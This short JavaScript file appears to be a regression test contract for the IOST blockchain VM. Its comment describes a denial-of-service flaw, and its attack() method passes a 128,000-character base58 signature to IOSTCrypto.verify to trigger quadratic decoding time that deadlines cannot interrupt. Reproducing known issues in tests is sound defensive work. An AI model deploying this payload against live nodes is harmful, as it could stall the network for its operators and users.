// Threat: a huge base58 signature given to IOSTCrypto.verify, whose decoding in Rust takes time quadratic in its length that no deadline can interrupt (issue 14, 4)
class HostCryptoVerifyHuge {
  init() {}

  attack() {
    return IOSTCrypto.verify('ed25519', '1', 'z'.repeat(128000), '1');
  }
}

module.exports = HostCryptoVerifyHuge;
